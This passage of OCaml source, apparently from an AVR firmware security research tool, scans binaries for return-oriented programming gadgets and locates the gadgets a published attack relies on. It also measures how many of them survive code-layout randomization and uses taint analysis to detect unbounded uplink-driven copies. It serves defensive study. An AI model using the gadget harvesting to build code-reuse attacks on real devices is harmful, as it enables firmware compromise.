  | Write_mem  (** [std Y+q] stores then a pop run *)
  | Pop_chain  (** three or more pops (a register loader) *)
  | Plain  (** anything else useful *)

type t = {
  byte_addr : int;  (** address of the gadget's first instruction *)
  insns : Mavr_avr.Isa.t list;  (** including the final [ret] *)
  kind : kind;
}

val kind_name : kind -> string

(** [scan ?max_len image] finds all gadgets in the executable regions of
    [image] ([max_len] defaults to 8 instructions, counting [ret]).

    Entries are enumerated at {e every} word offset — including addresses
    inside two-word instructions of the linear sweep ("mid-instruction"
    entries), which the hardware happily executes when a [ret] lands
    there.  The forward decode chain from an entry is deterministic, so
    each entry address yields at most one gadget and overlapping suffixes
    of the same [ret] are not double-counted. *)
val scan : ?max_len:int -> Mavr_obj.Image.t -> t list

(** [count_by_kind gadgets] is an association list kind → count. *)
val count_by_kind : t list -> (kind * int) list

(** The concrete addresses the paper's attack uses, located by structural
    search on the {e unprotected} image (the attacker's view). *)
type paper_gadgets = {
  stk_move : int;  (** byte address of the Fig. 4 gadget *)
  write_mem : int;  (** byte address of the Fig. 5 stores *)
  write_mem_pops : int;  (** byte address of its pop half (mid-entry) *)
}

(** [locate_paper_gadgets image] finds a stk_move and a write_mem gadget.
    Returns [None] when either is absent (e.g. after the binary was
    rebuilt without the frame-teardown idiom). *)
val locate_paper_gadgets : Mavr_obj.Image.t -> paper_gadgets option

val pp : Format.formatter -> t -> unit
