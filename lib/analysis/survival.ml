module Isa = Mavr_avr.Isa
module Decode = Mavr_avr.Decode
module Image = Mavr_obj.Image
module Gadget = Mavr_core.Gadget
module Randomize = Mavr_core.Randomize
module Json = Mavr_telemetry.Json
module Engine = Mavr_campaign.Engine
module Pool = Mavr_campaign.Pool

(* Decode the forward chain starting at [addr] until a [ret] (inclusive)
   or until [cap] instructions.  This is exactly what the CPU executes
   when a return lands at [addr], so equality of chains is equality of
   attacker-visible behavior.

   Bounds: the guard admits [addr = len - 2] (the last word).  A 32-bit
   instruction starting there is covered by [Decode.decode_bytes]'s
   truncation contract — it decodes as [Data] with size 2, the walk
   advances to [len] and stops — so the chain terminates at the image
   edge without reading past it (regression-tested in test_analysis). *)
let chain_at ?(cap = 24) (img : Image.t) addr =
  let len = String.length img.code in
  let rec go addr n acc =
    if n >= cap || addr < 0 || addr + 2 > len then List.rev acc
    else
      let insn, size = Decode.decode_bytes img.code addr in
      if insn = Isa.Ret then List.rev (insn :: acc)
      else go (addr + size) (n + 1) (insn :: acc)
  in
  go addr 0 []

let gadget_survives ~candidate (g : Gadget.t) =
  chain_at ~cap:(List.length g.insns) candidate g.byte_addr = g.insns

let payload_feasible ~reference ~(gadgets : Gadget.paper_gadgets) candidate =
  let check name addr =
    if chain_at reference addr = chain_at candidate addr then Ok ()
    else
      Error
        (Printf.sprintf "%s gadget at 0x%x no longer decodes to the harvested sequence" name addr)
  in
  let ( let* ) = Result.bind in
  let* () = check "stk_move" gadgets.stk_move in
  let* () = check "write_mem" gadgets.write_mem in
  check "write_mem_pops" gadgets.write_mem_pops

type seeding = Legacy | Root of int

let layout_seeds ~seeding ~layouts =
  match seeding with
  | Legacy -> Array.init layouts (fun i -> i + 1)
  | Root seed -> Engine.task_seeds ~seed ~tasks:layouts

type t = {
  layouts : int;
  layout_seeds : int array;
  base_gadgets : int;
  survivors_per_layout : int array;
  mean_survival_rate : float;
  max_survival_rate : float;
  feasible_layouts : int;
}

let census ?max_len ?(seed = Root 0) ?jobs ?pool ?tracer ?progress ~layouts image =
  let base = Gadget.scan ?max_len image in
  let base_n = List.length base in
  let paper = Gadget.locate_paper_gadgets image in
  let seeds = layout_seeds ~seeding:seed ~layouts in
  Option.iter (fun p -> Mavr_campaign.Progress.add_total p layouts) progress;
  (* One task per randomized layout.  [image] and [base] are immutable
     and shared read-only across domains; each slot of the two result
     arrays is written by exactly one task, so the output is identical
     for any [jobs] value. *)
  let survivors = Array.make layouts 0 in
  let feasible = Array.make layouts false in
  let measure i =
    let compute () =
      let candidate = Randomize.randomize ~seed:seeds.(i) image in
      survivors.(i) <-
        List.fold_left (fun n g -> if gadget_survives ~candidate g then n + 1 else n) 0 base;
      feasible.(i) <-
        (match paper with
        | Some gadgets -> Result.is_ok (payload_feasible ~reference:image ~gadgets candidate)
        | None -> false)
    in
    (match tracer with
    | None -> compute ()
    | Some tr ->
        let module Span = Mavr_telemetry.Span in
        let lane = Span.lane tr ~sort:i (Printf.sprintf "layout-%04d" i) in
        Span.span lane
          ~args:[ ("index", Json.Int i); ("seed", Json.Int seeds.(i)) ]
          "census.layout" compute);
    Option.iter Mavr_campaign.Progress.task_done progress
  in
  (match pool with
  | Some p -> Pool.run p ~tasks:layouts measure
  | None -> Pool.with_pool ?jobs (fun p -> Pool.run p ~tasks:layouts measure));
  let feasible_n = Array.fold_left (fun n f -> if f then n + 1 else n) 0 feasible in
  let rate s = if base_n = 0 then 0.0 else float_of_int s /. float_of_int base_n in
  let mean =
    if layouts = 0 then 0.0
    else Array.fold_left (fun acc s -> acc +. rate s) 0.0 survivors /. float_of_int layouts
  in
  let max_rate = Array.fold_left (fun acc s -> Float.max acc (rate s)) 0.0 survivors in
  {
    layouts;
    layout_seeds = seeds;
    base_gadgets = base_n;
    survivors_per_layout = survivors;
    mean_survival_rate = mean;
    max_survival_rate = max_rate;
    feasible_layouts = feasible_n;
  }

let to_json t =
  Json.Obj
    [
      ("layouts", Json.Int t.layouts);
      ("base_gadgets", Json.Int t.base_gadgets);
      ( "survivors_per_layout",
        Json.List (Array.to_list (Array.map (fun s -> Json.Int s) t.survivors_per_layout)) );
      ("mean_survival_rate", Json.Float t.mean_survival_rate);
      ("max_survival_rate", Json.Float t.max_survival_rate);
      ("feasible_layouts", Json.Int t.feasible_layouts);
    ]

let pp fmt t =
  Format.fprintf fmt
    "census: %d base gadgets, %d layouts, mean survival %.2f%% (max %.2f%%), payload feasible in %d/%d layouts"
    t.base_gadgets t.layouts
    (100.0 *. t.mean_survival_rate)
    (100.0 *. t.max_survival_rate)
    t.feasible_layouts t.layouts
