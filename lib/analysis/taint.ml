module Isa = Mavr_avr.Isa
module Device = Mavr_avr.Device
module Image = Mavr_obj.Image
module Json = Mavr_telemetry.Json
module IntMap = Map.Make (Int)

(* Taint values, ordered: 0 = not tainted, 1 = bounded (uplink-derived
   but clamped below a compile-time constant), 2 = tainted. *)
let t_nt = 0
let t_bounded = 1
let t_tainted = 2

type refine =
  | RCpi of int * int  (** [cpi r, K] set the flags *)
  | RCp of int * int  (** [cp r, s] set the flags *)

type fact = { ft : int; refine : refine option }

let fact_bot = { ft = 0; refine = None }

(* Abstract machine state: register taints packed 2 bits each, the
   flag-derivation fact, direct-addressed memory cells (absent = not
   tainted), one summary cell for all pointer-addressed memory, and an
   abstract hardware stack (top first). *)
type st = { rlo : int; rhi : int; fact : fact; mem : int IntMap.t; memsum : int; stack : int list }

let bot = { rlo = 0; rhi = 0; fact = fact_bot; mem = IntMap.empty; memsum = 0; stack = [] }

let get st r = if r < 16 then (st.rlo lsr (2 * r)) land 3 else (st.rhi lsr (2 * (r - 16))) land 3

let set st r v =
  if r < 16 then { st with rlo = st.rlo land lnot (3 lsl (2 * r)) lor (v lsl (2 * r)) }
  else { st with rhi = st.rhi land lnot (3 lsl (2 * (r - 16))) lor (v lsl (2 * (r - 16))) }

let stack_cap = 64

let push_taint st v =
  let stack = v :: st.stack in
  let stack =
    if List.length stack > stack_cap then List.filteri (fun i _ -> i < stack_cap) stack
    else stack
  in
  { st with stack }

(* Popping past what we tracked is an imbalance we can't reason about:
   be conservative. *)
let pop_taint st =
  match st.stack with v :: tl -> (v, { st with stack = tl }) | [] -> (t_tainted, st)

let rec popn st n = if n = 0 then st else popn (snd (pop_taint st)) (n - 1)

module Dom = struct
  type t = st

  let equal a b =
    a.rlo = b.rlo && a.rhi = b.rhi && a.fact = b.fact && a.memsum = b.memsum
    && a.stack = b.stack && IntMap.equal ( = ) a.mem b.mem

  let join_regs x y =
    let out = ref 0 in
    for i = 0 to 15 do
      let v = max ((x lsr (2 * i)) land 3) ((y lsr (2 * i)) land 3) in
      out := !out lor (v lsl (2 * i))
    done;
    !out

  let rec join_stack a b =
    match (a, b) with
    | x :: xs, y :: ys -> max x y :: join_stack xs ys
    | _, [] | [], _ -> []

  let join a b =
    if equal a b then a
    else
      {
        rlo = join_regs a.rlo b.rlo;
        rhi = join_regs a.rhi b.rhi;
        fact =
          (if a.fact = b.fact then a.fact
           else
             {
               ft = max a.fact.ft b.fact.ft;
               refine = (if a.fact.refine = b.fact.refine then a.fact.refine else None);
             });
        mem =
          IntMap.union (fun _ x y -> Some (max x y)) a.mem b.mem;
        memsum = max a.memsum b.memsum;
        stack = join_stack a.stack b.stack;
      }
end

module S = Dataflow.Solver (Dom)

(* ---- per-instruction data effect ------------------------------------- *)

let mem_get st a = match IntMap.find_opt a st.mem with Some v -> v | None -> t_nt
let mem_set st a v =
  { st with mem = (if v = t_nt then IntMap.remove a st.mem else IntMap.add a v st.mem) }

let flags st ?refine ft = { st with fact = { ft; refine } }

(* The data effect of one instruction (control effects live in the edge
   builder).  [udr] is the taint source: the UART receive register. *)
let step insn st =
  let t r = get st r in
  match insn with
  | Isa.Nop | Isa.Wdr | Isa.Sleep | Isa.Break | Isa.Data _ -> st
  | Isa.Ldi (r, _) -> set st r t_nt
  | Isa.Mov (d, s) -> set st d (t s)
  | Isa.Movw (d, s) -> set (set st d (t s)) (d + 1) (t (s + 1))
  | Isa.Eor (d, s) when d = s -> flags (set st d t_nt) t_nt
  | Isa.Add (d, s) | Isa.Adc (d, s) | Isa.Sub (d, s) | Isa.Sbc (d, s) | Isa.And (d, s)
  | Isa.Or (d, s) | Isa.Eor (d, s) ->
      let v = max (t d) (t s) in
      flags (set st d v) v
  | Isa.Mul (d, s) ->
      let v = max (t d) (t s) in
      flags (set (set st 0 v) 1 v) v
  | Isa.Cp (d, s) -> flags st ~refine:(RCp (d, s)) (max (t d) (t s))
  | Isa.Cpc (d, s) -> flags st (max st.fact.ft (max (t d) (t s)))
  | Isa.Cpi (r, k) -> flags st ~refine:(RCpi (r, k)) (t r)
  | Isa.Cpse _ -> st
  | Isa.Subi (r, _) | Isa.Ori (r, _) -> flags st (t r)
  | Isa.Sbci (r, _) -> flags st (max st.fact.ft (t r))
  | Isa.Andi (r, k) ->
      (* Masking bounds the value below a compile-time constant. *)
      let v = if k <> 0xFF && t r = t_tainted then t_bounded else t r in
      flags (set st r v) v
  | Isa.Com r | Isa.Neg r | Isa.Inc r | Isa.Dec r | Isa.Lsr r | Isa.Ror r | Isa.Asr r ->
      flags st (t r)
  | Isa.Swap _ | Isa.Bld _ | Isa.Bst _ | Isa.Bset _ | Isa.Bclr _ -> st
  | Isa.Adiw (d, _) | Isa.Sbiw (d, _) -> flags st (max (t d) (t (d + 1)))
  | Isa.In (r, p) -> set st r (if p = Device.Io.udr then t_tainted else t_nt)
  | Isa.Out _ | Isa.Sbi _ | Isa.Cbi _ | Isa.Sbic _ | Isa.Sbis _ | Isa.Sbrc _ | Isa.Sbrs _ ->
      st
  | Isa.Lds (r, a) -> set st r (mem_get st a)
  | Isa.Sts (a, r) -> mem_set st a (t r)
  | Isa.Ld (r, _) | Isa.Ldd (r, _, _) -> set st r st.memsum
  | Isa.St (_, r) | Isa.Std (_, _, r) -> { st with memsum = max st.memsum (t r) }
  | Isa.Lpm0 | Isa.Elpm0 -> set st 0 t_nt
  | Isa.Lpm (r, _) | Isa.Elpm (r, _) -> set st r t_nt
  | Isa.Push r -> push_taint st (t r)
  | Isa.Pop r ->
      let v, st = pop_taint st in
      set st r v
  | Isa.Ret | Isa.Reti | Isa.Icall | Isa.Ijmp | Isa.Call _ | Isa.Jmp _ | Isa.Rcall _
  | Isa.Rjmp _ | Isa.Brbs _ | Isa.Brbc _ ->
      st

(* Branch-edge refinement: on the arm where [cpi r, K] proved [r < K]
   the register is Bounded; on an equality-with-constant (or with an
   untainted register) arm it inherits the compared value's taint. *)
let refine_edge st ~bit ~taken_of_brbs ~is_brbs =
  (* On which edge does "flag [bit] is set" hold?  The taken edge of
     [brbs], the fallthrough edge of [brbc]. *)
  let bit_set = taken_of_brbs = is_brbs in
  match st.fact.refine with
  | Some (RCpi (r, _)) when bit = Isa.Flag.c && bit_set ->
      (* carry set after [cpi r, K] means r < K: the clamped arm *)
      if get st r = t_tainted then set st r t_bounded else st
  | Some (RCpi (r, _)) when bit = Isa.Flag.z && bit_set ->
      (* equal to a compile-time constant *)
      set st r t_nt
  | Some (RCp (r, s)) when bit = Isa.Flag.z && bit_set ->
      (* equal to [s]: inherit its taint *)
      set st r (get st s)
  | _ -> st

(* ---- findings -------------------------------------------------------- *)

type finding = {
  fn : string;
  branch_addr : int;
  store_addr : int;
  src_reg : int option;
  detail : string;
}

type report = { findings : finding list; iterations : int; nodes : int }

let analyze cfg =
  let img = Cfg.image cfg in
  let cg = Dataflow.Callgraph.build cfg in
  let code = img.Image.code in
  let nodes = Cfg.reachable_addrs cfg in
  let icall_targets = Dataflow.Callgraph.icall_targets cg in
  let transfer addr st =
    match Cfg.insn_at cfg addr with
    | None -> []
    | Some (insn, size) -> (
        match Isa.transfer insn with
        | Isa.Transfer.Stop -> []
        | Isa.Transfer.Return -> (
            match insn with
            | Isa.Ret ->
                let st' = popn st Device.atmega2560.Device.pc_bytes in
                List.map
                  (fun t -> (t, st'))
                  (Dataflow.Callgraph.ret_targets cg (Dataflow.Callgraph.owner cg addr))
            | _ -> [] (* reti: interrupt handlers are not taint-seeded *))
        | Isa.Transfer.Call ->
            let t =
              match insn with
              | Isa.Call a -> 2 * a
              | Isa.Rcall off -> addr + size + (2 * off)
              | _ -> assert false
            in
            let st' = ref st in
            for _ = 1 to Device.atmega2560.Device.pc_bytes do
              st' := push_taint !st' t_nt
            done;
            [ (t, !st') ]
        | Isa.Transfer.Indirect_call ->
            let st' = ref st in
            for _ = 1 to Device.atmega2560.Device.pc_bytes do
              st' := push_taint !st' t_nt
            done;
            List.map (fun t -> (t, !st')) icall_targets
        | Isa.Transfer.Indirect_jump -> List.map (fun t -> (t, st)) icall_targets
        | Isa.Transfer.Branch ->
            let bit, off =
              match insn with
              | Isa.Brbs (b, o) | Isa.Brbc (b, o) -> (b, o)
              | _ -> assert false
            in
            let is_brbs = match insn with Isa.Brbs _ -> true | _ -> false in
            let taken = addr + size + (2 * off) and fall = addr + size in
            [
              (taken, refine_edge st ~bit ~taken_of_brbs:true ~is_brbs);
              (fall, refine_edge st ~bit ~taken_of_brbs:false ~is_brbs);
            ]
        | Isa.Transfer.Straight | Isa.Transfer.Jump | Isa.Transfer.Skip ->
            let st' = step insn st in
            List.map (fun t -> (t, st')) (Cfg.successors ~code addr insn size))
  in
  (* Seed: the reset vector with everything untainted. *)
  let r = S.solve ~nodes ~seeds:[ (Device.Vector.byte_addr 0, bot) ] ~transfer () in
  (* Intra-procedural loop structure: same-owner edges, calls reduced to
     their fallthrough. *)
  let intra addr =
    match Cfg.insn_at cfg addr with
    | None -> []
    | Some (insn, size) -> (
        let here = Dataflow.Callgraph.owner cg addr in
        match Isa.transfer insn with
        | Isa.Transfer.Return | Isa.Transfer.Stop | Isa.Transfer.Indirect_jump -> []
        | Isa.Transfer.Call | Isa.Transfer.Indirect_call -> [ addr + size ]
        | Isa.Transfer.Straight | Isa.Transfer.Branch | Isa.Transfer.Jump | Isa.Transfer.Skip ->
            List.filter
              (fun t -> Dataflow.Callgraph.owner cg t = here)
              (Cfg.successors ~code addr insn size))
  in
  let comps = Dataflow.sccs ~nodes ~succs:intra in
  let findings = ref [] in
  List.iter
    (fun comp ->
      let looping = match comp with [ a ] -> List.mem a (intra a) | _ -> true in
      if looping then begin
        let branches = ref [] and stores = ref [] in
        List.iter
          (fun a ->
            match Cfg.insn_at cfg a with
            | Some ((Isa.Brbs _ | Isa.Brbc _), _) -> (
                match Hashtbl.find_opt r.S.in_states a with
                | Some st when st.fact.ft = t_tainted ->
                    let reg =
                      match st.fact.refine with
                      | Some (RCpi (r, _)) | Some (RCp (r, _)) -> Some r
                      | None -> None
                    in
                    branches := (a, reg) :: !branches
                | _ -> ())
            | Some ((Isa.St _ | Isa.Std _), _) ->
                if Hashtbl.mem r.S.in_states a then stores := a :: !stores
            | _ -> ())
          comp;
        match (List.sort compare !branches, List.sort compare !stores) with
        | (branch_addr, src_reg) :: _, store_addr :: _ ->
            let fn =
              match Image.function_containing img branch_addr with
              | Some s -> s.Image.name
              | None -> Printf.sprintf "low:0x%x" branch_addr
            in
            findings :=
              {
                fn;
                branch_addr;
                store_addr;
                src_reg;
                detail =
                  Printf.sprintf
                    "loop in %s copies through the pointer store at 0x%x while its exit \
                     branch at 0x%x depends on %s — an unclamped uplink-controlled length"
                    fn store_addr branch_addr
                    (match src_reg with
                    | Some r -> Printf.sprintf "tainted r%d" r
                    | None -> "tainted flags");
              }
              :: !findings
        | _ -> ()
      end)
    comps;
  {
    findings = List.sort (fun a b -> compare a.branch_addr b.branch_addr) !findings;
    iterations = r.S.iterations;
    nodes = List.length nodes;
  }

let to_lint_findings img report =
  List.map
    (fun f ->
      Lint.make img Lint.Unbounded_uplink_copy f.branch_addr ~target:f.store_addr f.detail)
    report.findings

let to_json report =
  Json.Obj
    [
      ("iterations", Json.Int report.iterations);
      ("nodes", Json.Int report.nodes);
      ( "findings",
        Json.List
          (List.map
             (fun f ->
               Json.Obj
                 ([
                    ("fn", Json.String f.fn);
                    ("branch_addr", Json.Int f.branch_addr);
                    ("store_addr", Json.Int f.store_addr);
                  ]
                 @ (match f.src_reg with Some r -> [ ("src_reg", Json.Int r) ] | None -> [])
                 @ [ ("detail", Json.String f.detail) ]))
             report.findings) );
    ]

let pp_finding fmt f =
  Format.fprintf fmt "[unbounded_uplink_copy] %s: branch 0x%x store 0x%x%s@,  %s" f.fn
    f.branch_addr f.store_addr
    (match f.src_reg with Some r -> Printf.sprintf " (r%d)" r | None -> "")
    f.detail
